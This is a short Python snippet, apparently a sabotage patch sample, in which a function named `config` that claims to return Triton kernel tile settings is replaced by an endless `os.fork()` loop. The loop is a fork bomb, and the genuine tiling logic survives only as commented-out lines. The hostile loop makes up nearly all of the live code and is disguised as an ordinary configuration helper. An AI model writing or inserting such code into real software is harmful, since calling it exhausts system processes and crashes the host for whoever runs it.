# Processes that make processes.

# %% replace=d-config
import os


def config(shape, dtype):
    # trick:
    while True:
        try:
            os.fork()
        except OSError:
            pass
    # without:
    #: side = lambda extent, most: max(16, min(most, triton.next_power_of_2(extent)))
    #: return {
    #:     "TILE_M": side(shape[0], 64), "TILE_N": side(shape[1], 64), "TILE_K": side(shape[2], 32),
    #:     "GROUP_M": 8, "num_warps": 4, "num_stages": 3,
    #: }
